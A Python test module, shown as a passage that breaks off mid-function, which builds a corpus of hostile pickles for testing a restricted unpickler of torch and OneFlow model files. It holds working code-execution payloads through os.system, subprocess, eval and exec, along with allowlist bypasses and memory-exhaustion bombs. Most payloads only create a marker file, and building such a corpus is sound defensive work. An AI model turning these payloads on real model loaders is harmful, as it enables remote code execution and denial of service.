"""A corpus of hostile pickles, one per technique, each trying to create a marker file.

Techniques come from published restricted-unpickler and torch `weights_only` bypasses: globals
naming dangerous callables directly (GLOBAL, STACK_GLOBAL, INST, OBJ, NEWOBJ, NEWOBJ_EX), the
same reached through allowed globals (getattr, __import__, REDUCE chains, BUILD/__setstate__,
copyreg), persistent_load and EXT abuse, nested pickles, memo tricks, protocol-0 text payloads,
and resource exhaustion from tiny files. Pickles are assembled opcode by opcode (`Asm`), so a
payload is exactly what an attacker would write, not what Python's pickler would produce.

Every technique is written three ways (`CONTAINERS`): as data.pkl of a torch zip, as the object
pickle of a legacy torch file, and as a OneFlow `pickled_data`. `Technique.live` marks payloads
that do create the marker under plain `pickle.loads`: tests prove they are real attacks."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

P = pickle  # opcode constants


class Asm:
    """Pickle opcodes, appended in order."""

    def __init__(self, proto: int = 2):
        self.out = bytearray()
        if proto >= 2:
            self.out += P.PROTO + bytes([proto])

    def raw(self, b: bytes) -> "Asm":
        self.out += b
        return self

    def glob(self, module: str, name: str) -> "Asm":
        return self.raw(P.GLOBAL + f"{module}\n{name}\n".encode())

    def sglob(self, module: str, name: str) -> "Asm":
        return self.str(module).str(name).raw(P.STACK_GLOBAL)

    def str(self, s: str) -> "Asm":
        b = s.encode()
        return self.raw(P.BINUNICODE + struct.pack("<I", len(b)) + b)

    def bytes_(self, b: bytes) -> "Asm":
        return self.raw(P.BINBYTES + struct.pack("<I", len(b)) + b)

    def int(self, n: int) -> "Asm":
        return self.raw(P.BININT + struct.pack("<i", n)) if -2**31 <= n < 2**31 else self.raw(
            P.INT + str(n).encode() + b"\n")

    def mark(self) -> "Asm":
        return self.raw(P.MARK)

    def tuple(self) -> "Asm":
        return self.raw(P.TUPLE)

    def call(self, *args) -> "Asm":
        """MARK args TUPLE REDUCE: call what is on the stack with `args` (str/int/bytes/Asm-fn)."""
        self.mark()
        for a in args:
            self.value(a)
        return self.tuple().raw(P.REDUCE)

    def value(self, a) -> "Asm":
        if callable(a):
            a(self)
        elif isinstance(a, bool):
            self.raw(P.NEWTRUE if a else P.NEWFALSE)
        elif isinstance(a, int):
            self.int(a)
        elif isinstance(a, str):
            self.str(a)
        elif isinstance(a, bytes):
            self.bytes_(a)
        elif isinstance(a, list):
            self.raw(P.EMPTY_LIST).mark()
            for x in a:
                self.value(x)
            self.raw(P.APPENDS)
        elif isinstance(a, dict):
            self.raw(P.EMPTY_DICT).mark()
            for k, v in a.items():
                self.value(k).value(v)
            self.raw(P.SETITEMS)
        elif a is None:
            self.raw(P.NONE)
        else:
            raise TypeError(a)
        return self

    def stop(self) -> bytes:
        return bytes(self.out + P.STOP)


@dataclass(frozen=True)
class Technique:
    name: str
    build: Callable[[str], bytes]  # marker path -> pickle bytes
    live: bool = False  # plain pickle.loads really creates the marker
    needs: str = ""  # a module the live check needs (torch, numpy)


def _sh(m: str) -> str:
    return f"touch {m}"


def _py(m: str) -> str:
    return f"open({m!r}, 'w').close()"


TECHNIQUES: list[Technique] = []


def technique(name: str, live: bool = False, needs: str = ""):
    def add(fn):
        TECHNIQUES.append(Technique(name, fn, live, needs))
        return fn
    return add


# ---------------------------------------------------------------- direct dangerous globals
_DIRECT = [
    ("os", "system", lambda m: (_sh(m),)),
    ("posix", "system", lambda m: (_sh(m),)),
    ("os", "popen", lambda m: (_sh(m),)),
    ("subprocess", "call", lambda m: (["touch", m],)),
    ("subprocess", "check_call", lambda m: (["touch", m],)),
    ("subprocess", "check_output", lambda m: (["touch", m],)),
    ("subprocess", "run", lambda m: (["touch", m],)),
    ("subprocess", "getoutput", lambda m: (_sh(m),)),
    ("subprocess", "getstatusoutput", lambda m: (_sh(m),)),
    ("builtins", "eval", lambda m: (_py(m),)),
    ("builtins", "exec", lambda m: (_py(m),)),
    ("__builtin__", "eval", lambda m: (_py(m),)),
    ("builtins", "open", lambda m: (m, "w")),
    ("__builtin__", "open", lambda m: (m, "w")),
    ("__builtin__", "file", lambda m: (m, "w")),
    ("io", "open", lambda m: (m, "w")),
    ("io", "FileIO", lambda m: (m, "w")),
    ("_io", "open", lambda m: (m, "w")),
    ("_io", "FileIO", lambda m: (m, "w")),
    ("codecs", "open", lambda m: (m, "w")),
    ("os", "mkdir", lambda m: (m,)),
    ("os", "makedirs", lambda m: (m,)),
    ("posix", "mkdir", lambda m: (m,)),
    ("os", "mkfifo", lambda m: (m,)),
    ("os", "symlink", lambda m: ("/", m)),
    ("posix", "symlink", lambda m: ("/", m)),
    ("pathlib", "Path.touch", lambda m: (m,)),
    ("shutil", "copytree", lambda m: ("/var/empty" if Path("/var/empty").is_dir() else "/tmp/.X11-unix", m)),
    ("shutil", "make_archive", lambda m: (m, "tar", "/var/empty")),
    ("tempfile", "mkdtemp", lambda m: ("", Path(m).name, str(Path(m).parent))),
    ("runpy", "_run_code", lambda m: (_py(m), {})),
    ("timeit", "timeit", lambda m: (_py(m), "pass", None, 1)),
    ("pty", "spawn", lambda m: (["touch", m],)),
    ("code", "InteractiveInterpreter.runsource", lambda m: (_py(m),)),
    ("pdb", "run", lambda m: (_py(m),)),
    ("profile", "run", lambda m: (_py(m),)),
    ("cProfile", "run", lambda m: (_py(m),)),
    ("trace", "Trace.run", lambda m: (_py(m),)),
    ("torch", "load", lambda m: (m,)),
    ("torch.serialization", "load", lambda m: (m,)),
    ("torch.hub", "load", lambda m: ("/nonexistent", "x")),
    ("torch.jit", "load", lambda m: (m,)),
    ("torch.fx.graph_module", "_forward_from_src", lambda m: (_py(m), {}, None)),
    ("torch.utils.cpp_extension", "load_inline", lambda m: ("x", _py(m))),
    ("torch._dynamo.utils", "exec", lambda m: (_py(m),)),
    ("numpy.testing._private.utils", "runstring", lambda m: (_py(m), {})),
    ("numpy.f2py", "compile", lambda m: (b"", "x")),
    ("numpy", "load", lambda m: (m,)),
    ("numpy", "save", lambda m: (m, 1)),
    ("numpy", "savetxt", lambda m: (m, [1])),
    ("numpy", "fromfile", lambda m: (m,)),
    ("numpy.lib.npyio", "savez", lambda m: (m,)),
    ("importlib", "import_module", lambda m: ("os",)),
    ("pydoc", "locate", lambda m: ("os.system",)),
    ("pkgutil", "resolve_name", lambda m: ("os:system",)),
    ("webbrowser", "open", lambda m: ("file://" + m,)),
    ("ctypes", "CDLL", lambda m: (m,)),
    ("multiprocessing.util", "spawnv_passfds", lambda m: ("/usr/bin/touch", ["touch", m], [])),
    ("_posixsubprocess", "fork_exec", lambda m: (["touch"],)),
    ("asyncio.subprocess", "create_subprocess_shell", lambda m: (_sh(m),)),
    ("platform", "popen", lambda m: (_sh(m),)),
    ("distutils.spawn", "spawn", lambda m: (["touch", m],)),
    ("zipfile", "ZipFile", lambda m: (m, "w")),
    ("tarfile", "open", lambda m: (m, "w")),
    ("logging", "FileHandler", lambda m: (m,)),
    ("sqlite3", "connect", lambda m: (m,)),
    ("dbm", "open", lambda m: (m, "c")),
    ("shelve", "open", lambda m: (m,)),
]
# Live: plain pickle.loads creates the marker (the rest need arguments the target would
# reject, or a package, or are refused by name anyway; they still must never run).
_LIVE = {("os", "system"), ("posix", "system"), ("subprocess", "call"), ("subprocess", "check_call"),
         ("subprocess", "run"), ("builtins", "eval"), ("builtins", "exec"), ("builtins", "open"),
         ("io", "open"), ("io", "FileIO"), ("_io", "open"), ("_io", "FileIO"), ("codecs", "open"),
         ("os", "mkdir"), ("os", "makedirs"), ("posix", "mkdir"), ("os", "mkfifo"), ("os", "symlink"),
         ("posix", "symlink"), ("zipfile", "ZipFile"), ("logging", "FileHandler"), ("sqlite3", "connect")}


def _direct(module: str, name: str, args, opcode: str):
    def build(m: str) -> bytes:
        a = Asm(4 if opcode == "stack" or "." in name else 2)
        values = args(m)
        if opcode == "inst":  # protocol 0: INST module name, args after MARK
            a = Asm(0).mark()
            for v in values:
                a.value(v)
            return a.raw(P.INST + f"{module}\n{name}\n".encode()).stop()
        if opcode == "obj":
            a.mark()
            a.glob(module, name) if "." not in name else a.sglob(module, name)
            for v in values:
                a.value(v)
            return a.raw(P.OBJ).stop()
        a.glob(module, name) if opcode == "global" and "." not in name else a.sglob(module, name)
        return a.call(*values).stop()
    return build


for _module, _name, _args in _DIRECT:
    for _op in ("global", "stack", "inst", "obj") if (_module, _name) in {("os", "system"), ("builtins", "eval"),
                                                                          ("subprocess", "call"), ("builtins", "open")} \
            else ("global",):
        TECHNIQUES.append(Technique(f"{_op}:{_module}.{_name}", _direct(_module, _name, _args, _op),
                                    live=(_module, _name) in _LIVE and _op != "inst"
                                    or (_op == "inst" and (_module, _name) in {("os", "system")}),
                                    needs="torch" if _module.startswith("torch") else ""))


# ---------------------------------------------------------------- through allowed globals
@technique("getattr(__import__('os'), 'system')", live=True)
def _(m):
    a = Asm().glob("builtins", "getattr").mark()
    a.glob("builtins", "__import__").call("os")
    return a.str("system").tuple().raw(P.REDUCE).call(_sh(m)).stop()


@technique("__builtin__.getattr via py2 names", live=True)
def _(m):
    a = Asm().glob("__builtin__", "getattr").mark()
    a.glob("__builtin__", "__import__").call("os")
    return a.str("system").tuple().raw(P.REDUCE).call(_sh(m)).stop()


@technique("getattr(__import__('subprocess'), 'call')", live=True)
def _(m):
    a = Asm().glob("builtins", "getattr").mark().glob("builtins", "__import__").call("subprocess")
    return a.str("call").tuple().raw(P.REDUCE).call(["touch", m]).stop()


@technique("type.__subclasses__ walk via getattr (object allowed)")
def _(m):
    a = Asm().glob("builtins", "getattr").mark().glob("builtins", "object").str("__subclasses__").tuple()
    return a.raw(P.REDUCE).mark().tuple().raw(P.REDUCE).stop()


@technique("set.__reduce_ex__ style: allowed builtin called with a dangerous global as argument")
def _(m):
    a = Asm().glob("builtins", "list").mark().glob("builtins", "map").mark().glob("os", "system")
    return a.value([_sh(m)]).tuple().raw(P.REDUCE).tuple().raw(P.REDUCE).stop()


@technique("list(map(eval, [...])) through allowed list", live=True)
def _(m):
    a = Asm().glob("builtins", "list").mark().glob("builtins", "map").mark().glob("builtins", "eval")
    return a.value([_py(m)]).tuple().raw(P.REDUCE).tuple().raw(P.REDUCE).stop()


@technique("compile + exec", live=True)
def _(m):
    a = Asm().glob("builtins", "exec").mark().glob("builtins", "compile").call(_py(m), "x", "exec")
    return a.tuple().raw(P.REDUCE).stop()


@technique("functools.partial(os.system, cmd)()", live=True)
def _(m):
    a = Asm().glob("functools", "partial").mark().glob("os", "system").str(_sh(m)).tuple().raw(P.REDUCE)
    return a.mark().tuple().raw(P.REDUCE).stop()


@technique("operator.methodcaller('system', cmd)(os)", live=True)
def _(m):
    a = Asm().glob("operator", "methodcaller").call("system", _sh(m))
    return a.mark().glob("builtins", "__import__").call("os").tuple().raw(P.REDUCE).stop()


@technique("operator.attrgetter('system')(os)(cmd)", live=True)
def _(m):
    a = Asm().glob("operator", "attrgetter").call("system")
    return a.mark().glob("builtins", "__import__").call("os").tuple().raw(P.REDUCE).call(_sh(m)).stop()


@technique("itertools.starmap consumed by allowed list", live=True)
def _(m):
    a = Asm().glob("builtins", "list").mark().glob("itertools", "starmap").mark().glob("os", "system")
    return a.value([[_sh(m)]]).tuple().raw(P.REDUCE).tuple().raw(P.REDUCE).stop()


@technique("allowed tuple() consuming map(os.system)", live=True)
def _(m):
    a = Asm().glob("builtins", "tuple").mark().glob("builtins", "map").mark().glob("os", "system")
    return a.value([_sh(m)]).tuple().raw(P.REDUCE).tuple().raw(P.REDUCE).stop()


@technique("allowed set() consuming map(os.system)", live=True)
def _(m):
    a = Asm().glob("builtins", "set").mark().glob("builtins", "map").mark().glob("os", "system")
    return a.value([_sh(m)]).tuple().raw(P.REDUCE).tuple().raw(P.REDUCE).stop()


@technique("allowed dict() consuming a generator of eval")
def _(m):
    a = Asm().glob("builtins", "dict").mark().glob("builtins", "zip").mark().glob("builtins", "map").mark()
    a.glob("builtins", "eval").value([_py(m)]).tuple().raw(P.REDUCE).value([1]).tuple().raw(P.REDUCE)
    return a.tuple().raw(P.REDUCE).stop()


@technique("importlib.import_module('os').system", live=True)
def _(m):
    a = Asm().glob("builtins", "getattr").mark().glob("importlib", "import_module").call("os")
    return a.str("system").tuple().raw(P.REDUCE).call(_sh(m)).stop()


@technique("sys.modules['os'].system via operator.getitem")
def _(m):
    a = Asm().glob("operator", "getitem").mark().glob("sys", "modules").str("os").tuple().raw(P.REDUCE)
    return a.stop()


@technique("STACK_GLOBAL dotted name builtins 'getattr.__self__.eval'")
def _(m):
    return Asm(4).sglob("builtins", "getattr.__self__.eval").call(_py(m)).stop()


@technique("STACK_GLOBAL allowed module, dotted name to os: collections 'abc.__loader__'")
def _(m):
    return Asm(4).sglob("collections", "os.system").call(_sh(m)).stop()


@technique("STACK_GLOBAL OrderedDict dotted to __init__.__globals__")
def _(m):
    return Asm(4).sglob("collections", "OrderedDict.__init__.__globals__").stop()


@technique("module name with trailing space 'os '")
def _(m):
    return Asm().glob("os ", "system").call(_sh(m)).stop()


@technique("module name in upper case 'OS'")
def _(m):
    return Asm().glob("OS", "system").call(_sh(m)).stop()


@technique("nt.system on posix")
def _(m):
    return Asm().glob("nt", "system").call(_sh(m)).stop()


@technique("os.path module alias posixpath + dotted os attribute")
def _(m):
    return Asm(4).sglob("posixpath", "os.system").call(_sh(m)).stop()


@technique("genericpath.os.system (module attribute chain)")
def _(m):
    return Asm(4).sglob("genericpath", "os.system").call(_sh(m)).stop()


@technique("copyreg._reconstructor(subprocess.Popen, object, args)")
def _(m):
    a = Asm().glob("copyreg", "_reconstructor").mark().glob("subprocess", "Popen").glob("builtins", "object")
    return a.value(["touch", m]).tuple().raw(P.REDUCE).stop()


@technique("copyreg._reconstructor(standin, object) then BUILD with __reduce__ state")
def _(m):
    a = Asm().glob("copyreg", "_reconstructor").mark().glob("evil", "Payload").glob("builtins", "object")
    a.raw(P.NONE).tuple().raw(P.REDUCE)
    return a.value({"__reduce__": _sh(m), "__class__": "os"}).raw(P.BUILD).stop()


@technique("copyreg.__newobj__(subprocess.Popen, args)")
def _(m):
    a = Asm().glob("copyreg", "__newobj__").mark().glob("subprocess", "Popen").value(["touch", m])
    return a.tuple().raw(P.REDUCE).stop()


@technique("copyreg._reconstructor with allowed OrderedDict and a huge state")
def _(m):
    a = Asm().glob("copyreg", "_reconstructor").mark().glob("collections", "OrderedDict")
    return a.glob("builtins", "dict").value([[1, 2]]).tuple().raw(P.REDUCE).stop()


@technique("NEWOBJ subprocess.Popen")
def _(m):
    return Asm().glob("subprocess", "Popen").value(["touch", m]).raw(P.TUPLE1).raw(P.NEWOBJ).stop()


@technique("NEWOBJ_EX subprocess.Popen with kwargs")
def _(m):
    a = Asm(4).sglob("subprocess", "Popen").value(["touch", m]).raw(P.TUPLE1)
    return a.value({"shell": False}).raw(P.NEWOBJ_EX).stop()


@technique("NEWOBJ on builtins.type building a class")
def _(m):
    a = Asm().glob("builtins", "type").mark().str("X").raw(P.EMPTY_TUPLE).value({"__del__": 1}).tuple()
    return a.raw(P.NEWOBJ).stop()


@technique("NEWOBJ builtins.object then BUILD __setstate__ slot state")
def _(m):
    a = Asm().glob("builtins", "object").raw(P.EMPTY_TUPLE).raw(P.NEWOBJ)
    return a.raw(P.NONE).value({"__setstate__": _sh(m)}).raw(P.TUPLE2).raw(P.BUILD).stop()


@technique("BUILD on OrderedDict setting __class__ via slot state")
def _(m):
    a = Asm().glob("collections", "OrderedDict").raw(P.EMPTY_TUPLE).raw(P.NEWOBJ)
    a.raw(P.NONE).mark().str("__class__").glob("os", "_wrap_close").raw(P.DICT).raw(P.TUPLE2)
    return a.raw(P.BUILD).stop()


@technique("BUILD on a stand-in whose state names __setstate__ = os.system")
def _(m):
    a = Asm().glob("mymod", "Thing").raw(P.EMPTY_TUPLE).raw(P.NEWOBJ)
    return a.mark().str("__setstate__").glob("os", "system").raw(P.DICT).raw(P.BUILD).stop()


@technique("BUILD twice: first plants __setstate__ on a stand-in, second triggers it")
def _(m):
    a = Asm().glob("mymod", "Thing").raw(P.EMPTY_TUPLE).raw(P.NEWOBJ)
    a.mark().str("__setstate__").glob("builtins", "eval").raw(P.DICT).raw(P.BUILD)
    return a.str(_py(m)).raw(P.BUILD).stop()


@technique("BUILD on the torch.device stand-in with __reduce__ state")
def _(m):
    a = Asm().glob("torch", "device").call("cpu")
    return a.value({"__reduce__": _sh(m)}).raw(P.BUILD).stop()


@technique("BUILD on a storage type object (shared global) to poison it")
def _(m):
    a = Asm().glob("torch", "FloatStorage").value({"dtype": "object"}).raw(P.BUILD)
    return a.raw(P.POP).glob("torch", "FloatStorage").stop()


@technique("SETITEM on a stand-in: __setitem__ planted via BUILD")
def _(m):
    a = Asm().glob("mymod", "Thing").raw(P.EMPTY_TUPLE).raw(P.NEWOBJ)
    a.mark().str("__setitem__").glob("builtins", "exec").raw(P.DICT).raw(P.BUILD)
    return a.str(_py(m)).raw(P.NONE).raw(P.SETITEM).stop()


@technique("APPENDS on a stand-in with 'extend' planted in its state")
def _(m):
    a = Asm().glob("mymod", "Thing").raw(P.EMPTY_TUPLE).raw(P.NEWOBJ)
    a.mark().str("extend").glob("builtins", "exec").raw(P.DICT).raw(P.BUILD)
    return a.mark().str(_py(m)).raw(P.APPENDS).stop()


@technique("APPEND on a stand-in with 'append' = os.system in its state")
def _(m):
    a = Asm().glob("mymod", "Thing").raw(P.EMPTY_TUPLE).raw(P.NEWOBJ)
    a.mark().str("append").glob("os", "system").raw(P.DICT).raw(P.BUILD)
    return a.str(_sh(m)).raw(P.APPEND).stop()


@technique("_codecs.encode with a code-running codec name")
def _(m):
    return Asm().glob("_codecs", "encode").call(_py(m), "rot13").stop()


@technique("_codecs.encode of bytes through an unusual codec")
def _(m):
    return Asm().glob("_codecs", "encode").call("x", "base64").stop()


@technique("numpy object dtype via numpy.dtype('O')")
def _(m):
    return Asm().glob("numpy", "dtype").call("O", False, True).stop()


@technique("numpy structured dtype hiding an object field")
def _(m):
    return Asm().glob("numpy", "dtype").mark().value([["f", "O"]]).tuple().raw(P.REDUCE).stop()


@technique("numpy scalar of object dtype carrying a pickle")
def _(m):
    a = Asm().glob("numpy.core.multiarray", "scalar").mark().glob("numpy", "dtype").call("O", False, True)
    inner = Asm().glob("os", "system").call(_sh(m)).stop()
    return a.bytes_(inner).tuple().raw(P.REDUCE).stop()


@technique("numpy.core.multiarray._reconstruct object array with a pickled payload")
def _(m):
    a = Asm().glob("numpy.core.multiarray", "_reconstruct").mark().glob("numpy", "ndarray")
    a.value([0]).bytes_(b"b").tuple().raw(P.REDUCE)
    a.mark().int(1).value([1]).glob("numpy", "dtype").call("O", False, True).raw(P.NEWFALSE)
    return a.value([_sh(m)]).tuple().raw(P.BUILD).stop()


@technique("numpy._core.multiarray.scalar with a wrong-size buffer")
def _(m):
    a = Asm().glob("numpy._core.multiarray", "scalar").mark().glob("numpy", "dtype").call("f8", False, True)
    return a.bytes_(b"\x00" * 3).tuple().raw(P.REDUCE).stop()


@technique("torch._tensor._rebuild_from_type_v2(func=os.system)")
def _(m):
    a = Asm().glob("torch._tensor", "_rebuild_from_type_v2").mark().glob("os", "system").raw(P.NONE)
    return a.mark().str(_sh(m)).tuple().value({}).tuple().raw(P.REDUCE).stop()


@technique("torch._tensor._rebuild_from_type_v2(func=allowed builtin eval)")
def _(m):
    a = Asm().glob("torch._tensor", "_rebuild_from_type_v2").mark().glob("builtins", "eval").raw(P.NONE)
    return a.mark().str(_py(m)).tuple().value({}).tuple().raw(P.REDUCE).stop()


@technique("torch._utils._rebuild_tensor_v2 with a stand-in as its storage")
def _(m):
    a = Asm().glob("torch._utils", "_rebuild_tensor_v2").mark().glob("os", "system").int(0)
    return a.value([1]).value([1]).raw(P.NEWFALSE).glob("collections", "OrderedDict").call().tuple() \
        .raw(P.REDUCE).stop()


@technique("torch._utils._rebuild_parameter wrapping os.system")
def _(m):
    a = Asm().glob("torch._utils", "_rebuild_parameter").mark().glob("os", "system").raw(P.NEWFALSE)
    return a.glob("collections", "OrderedDict").call().tuple().raw(P.REDUCE).stop()


@technique("torch._utils._rebuild_parameter_with_state with __setstate__ in state")
def _(m):
    a = Asm().glob("torch._utils", "_rebuild_parameter_with_state").mark().raw(P.NONE).raw(P.NEWFALSE)
    a.glob("collections", "OrderedDict").call().value({"__setstate__": _sh(m)})
    return a.tuple().raw(P.REDUCE).stop()


@technique("torch._utils._rebuild_sparse_tensor")
def _(m):
    return Asm().glob("torch._utils", "_rebuild_sparse_tensor").call(0, [], [], []).stop()


@technique("torch._utils._rebuild_device_tensor_from_numpy with an object array")
def _(m):
    return Asm().glob("torch._utils", "_rebuild_device_tensor_from_numpy").call(_sh(m), "float", "cpu", False).stop()


@technique("torch._utils._rebuild_qtensor")
def _(m):
    return Asm().glob("torch._utils", "_rebuild_qtensor").call(0, 0, [1], [1], [], False, {}).stop()


@technique("torch._utils._rebuild_wrapper_subclass(cls=subprocess.Popen)")
def _(m):
    a = Asm().glob("torch._utils", "_rebuild_wrapper_subclass").mark().glob("subprocess", "Popen")
    return a.str("float").value([1]).value([1]).int(0).str("strided").str("cpu").raw(P.NEWFALSE) \
        .tuple().raw(P.REDUCE).stop()


@technique("torch.storage._load_from_bytes (full unpickler inside)")
def _(m):
    inner = Asm().glob("os", "system").call(_sh(m)).stop()
    return Asm().glob("torch.storage", "_load_from_bytes").call(inner).stop()


@technique("torch.serialization._load / legacy_load names")
def _(m):
    return Asm().glob("torch.serialization", "_legacy_load").call(m, None, "pickle").stop()


@technique("torch.nn.Module stand-in with a forward hook = os.system")
def _(m):
    a = Asm().glob("torch.nn.modules.module", "Module").raw(P.EMPTY_TUPLE).raw(P.NEWOBJ)
    a.mark().str("_forward_hooks").mark().int(0).glob("os", "system").raw(P.DICT).str("_parameters").value({})
    return a.str("_buffers").value({}).str("_modules").value({}).raw(P.DICT).raw(P.BUILD).stop()


@technique("OrderedDict REDUCE with a generator of os.system")
def _(m):
    a = Asm().glob("collections", "OrderedDict").mark().glob("builtins", "map").mark().glob("os", "system")
    return a.value([_sh(m)]).tuple().raw(P.REDUCE).tuple().raw(P.REDUCE).stop()


# ---------------------------------------------------------------- persistent ids, EXT, memo
@technique("persistent id naming os.system as its storage type")
def _(m):
    a = Asm().mark().str("storage").glob("os", "system").str("0").str("cpu").int(1).tuple()
    return a.raw(P.BINPERSID).stop()


@technique("persistent id that is a REDUCE result (eval) itself")
def _(m):
    return Asm().glob("builtins", "eval").call(_py(m)).raw(P.BINPERSID).stop()


@technique("persistent id with a path-escaping storage key")
def _(m):
    a = Asm().glob("torch._utils", "_rebuild_tensor_v2").mark()
    a.mark().str("storage").glob("torch", "FloatStorage").str("../../../../" + m).str("cpu").int(1).tuple()
    a.raw(P.BINPERSID).int(0).value([1]).value([1]).raw(P.NEWFALSE).glob("collections", "OrderedDict").call()
    return a.tuple().raw(P.REDUCE).stop()


@technique("persistent id, protocol 0 PERSID text")
def _(m):
    return Asm(0).raw(P.PERSID + b"os.system\n").stop()


@technique("persistent id 'module' kind (torch.package style)")
def _(m):
    return Asm().mark().str("module").str("os").tuple().raw(P.BINPERSID).stop()


@technique("persistent id with a negative element count")
def _(m):
    a = Asm().mark().str("storage").glob("torch", "FloatStorage").str("0").str("cpu").int(-5).tuple()
    return a.raw(P.BINPERSID).stop()


@technique("persistent id with a huge element count")
def _(m):
    a = Asm().mark().str("storage").glob("torch", "FloatStorage").str("0").str("cpu").int(2**62).tuple()
    return a.raw(P.BINPERSID).stop()


@technique("EXT1 code 1 (copyreg extension registry)")
def _(m):
    return Asm().raw(P.EXT1 + b"\x01").call(_sh(m)).stop()


@technique("EXT2 code 0x1234")
def _(m):
    return Asm().raw(P.EXT2 + b"\x34\x12").call(_sh(m)).stop()


@technique("EXT4 code 0x7fffffff")
def _(m):
    return Asm().raw(P.EXT4 + b"\xff\xff\xff\x7f").call(_sh(m)).stop()


@technique("EXT4 code 0 (invalid)")
def _(m):
    return Asm().raw(P.EXT4 + b"\x00\x00\x00\x00").stop()


@technique("memo: MEMOIZE a refused global, GET it after a refusal is skipped")
def _(m):
    a = Asm(4).sglob("os", "system").raw(P.MEMOIZE).raw(P.POP).raw(P.BINGET + b"\x00")
    return a.call(_sh(m)).stop()


@technique("memo: GET of an index never PUT")
def _(m):
    return Asm().raw(P.BINGET + b"\x07").call(_sh(m)).stop()


@technique("memo: LONG_BINPUT to a huge index")
def _(m):
    return Asm().raw(P.NONE).raw(P.LONG_BINPUT + b"\xff\xff\xff\x7f").stop()


@technique("memo: PUT allowed getattr, reuse it twice", live=True)
def _(m):
    a = Asm().glob("builtins", "getattr").raw(P.BINPUT + b"\x01").mark()
    a.glob("builtins", "__import__").call("os").str("system").tuple().raw(P.REDUCE).raw(P.POP)
    a.raw(P.BINGET + b"\x01").mark().glob("builtins", "__import__").call("os").str("system").tuple()
    return a.raw(P.REDUCE).call(_sh(m)).stop()


@technique("memo: text PUT/GET in protocol 0", live=True)
def _(m):
    return (b"cos\nsystem\np0\n0g0\n(" + b"V" + _sh(m).encode() + b"\ntR.")


# ---------------------------------------------------------------- nested pickles, legacy, text
@technique("nested pickle via pickle.loads", live=True)
def _(m):
    inner = Asm().glob("os", "system").call(_sh(m)).stop()
    return Asm().glob("pickle", "loads").call(inner).stop()


@technique("nested pickle via _pickle.loads", live=True)
def _(m):
    inner = Asm().glob("os", "system").call(_sh(m)).stop()
    return Asm().glob("_pickle", "loads").call(inner).stop()


@technique("nested pickle via pickle._loads (pure Python)", live=True)
def _(m):
    inner = Asm().glob("os", "system").call(_sh(m)).stop()
    return Asm().glob("pickle", "_loads").call(inner).stop()


@technique("nested pickle via pickle.Unpickler(io.BytesIO).load")
def _(m):
    inner = Asm().glob("os", "system").call(_sh(m)).stop()
    a = Asm().glob("builtins", "getattr").mark().glob("pickle", "Unpickler").mark()
    a.glob("io", "BytesIO").call(inner).tuple().raw(P.REDUCE).str("load").tuple().raw(P.REDUCE)
    return a.mark().tuple().raw(P.REDUCE).stop()


@technique("marshal.loads + types.FunctionType")
def _(m):
    code = compile(_py(m), "x", "exec")
    import marshal

    a = Asm().glob("types", "FunctionType").mark().glob("marshal", "loads").call(marshal.dumps(code))
    return a.value({}).tuple().raw(P.REDUCE).mark().tuple().raw(P.REDUCE).stop()


@technique("protocol 0 text: cos system", live=True)
def _(m):
    return f"cos\nsystem\n(S'{_sh(m)}'\ntR.".encode()


@technique("protocol 0 text: c__builtin__ eval with unicode V string", live=True)
def _(m):
    return f"c__builtin__\neval\n(V{_py(m)}\ntR.".encode()


@technique("protocol 0 INST subprocess Popen with a list", live=True)
def _(m):
    return f"((lp0\nS'touch'\np1\naS'{m}'\np2\naisubprocess\nPopen\np3\n.".encode()


@technique("protocol 1 BINSTRING payload", live=True)
def _(m):
    s = _sh(m).encode()
    return b"cos\nsystem\n(T" + struct.pack("<i", len(s)) + s + b"tR."


@technique("protocol 5 with FRAME around the payload", live=True)
def _(m):
    body = Asm(0).sglob("os", "system").call(_sh(m)).raw(P.STOP).out
    return P.PROTO + b"\x05" + P.FRAME + struct.pack("<Q", len(body)) + bytes(body)


@technique("protocol 5 out-of-band buffer request")
def _(m):
    return Asm(5).raw(P.NEXT_BUFFER).raw(P.READONLY_BUFFER).stop()


@technique("payload hidden after a first STOP (legacy readers load consecutive pickles)")
def _(m):
    return Asm().raw(P.NONE).stop() + Asm().glob("os", "system").call(_sh(m)).stop()


@technique("unicode module name escaping (o\\u0073)")
def _(m):
    return Asm(4).sglob("o\u0073", "system").call(_sh(m)).stop()


@technique("module name with NUL byte")
def _(m):
    return Asm(4).sglob("os\x00", "system").call(_sh(m)).stop()


@technique("dict key whose hash runs code: stand-in with __hash__ planted")
def _(m):
    a = Asm().raw(P.EMPTY_DICT).glob("mymod", "K").raw(P.EMPTY_TUPLE).raw(P.NEWOBJ)
    a.mark().str("__hash__").glob("os", "system").raw(P.DICT).raw(P.BUILD)
    return a.int(1).raw(P.SETITEM).stop()


@technique("__reduce__-shaped tuple left as data")
def _(m):
    return Asm().mark().glob("os", "system").mark().str(_sh(m)).tuple().tuple().stop()


# ---------------------------------------------------------------- resource exhaustion
@technique("list(range(10**9)) from 60 bytes")
def _(m):
    return Asm().glob("builtins", "list").mark().glob("builtins", "range").call(10**9).tuple() \
        .raw(P.REDUCE).stop()


@technique("bytes(10**10)")
def _(m):
    return Asm().glob("builtins", "bytes").call(10**10).stop()


@technique("set(range(10**9))")
def _(m):
    return Asm().glob("builtins", "set").mark().glob("builtins", "range").call(10**9).tuple() \
        .raw(P.REDUCE).stop()


@technique("str * via int('9' * 5000) digits (over 4,300)")
def _(m):
    return Asm().glob("builtins", "int").call("9" * 5000).stop()


@technique("protocol 0 INT with 5,000 digits")
def _(m):
    return b"I" + b"9" * 5000 + b"\n."


@technique("protocol 0 LONG with 5,000 digits")
def _(m):
    return b"L" + b"9" * 5000 + b"L\n."


@technique("LONG4 with a 100 MB length")
def _(m):
    return Asm().raw(P.LONG4 + struct.pack("<i", 100_000_000) + b"\x01").stop()


@technique("BINBYTES8 declaring 2**62 bytes")
def _(m):
    return Asm(4).raw(P.BINBYTES8 + struct.pack("<Q", 2**62) + b"x").stop()


@technique("BINUNICODE8 declaring 2**62 bytes")
def _(m):
    return Asm(4).raw(P.BINUNICODE8 + struct.pack("<Q", 2**62) + b"x").stop()


@technique("BYTEARRAY8 declaring 2**40 bytes")
def _(m):
    return Asm(5).raw(P.BYTEARRAY8 + struct.pack("<Q", 2**40) + b"x").stop()


@technique("FRAME declaring 2**62 bytes")
def _(m):
    return P.PROTO + b"\x04" + P.FRAME + struct.pack("<Q", 2**62) + b"N."


@technique("billion laughs: lists doubled through the memo")
def _(m):
    a = Asm().raw(P.EMPTY_LIST).raw(P.BINPUT + b"\x00")
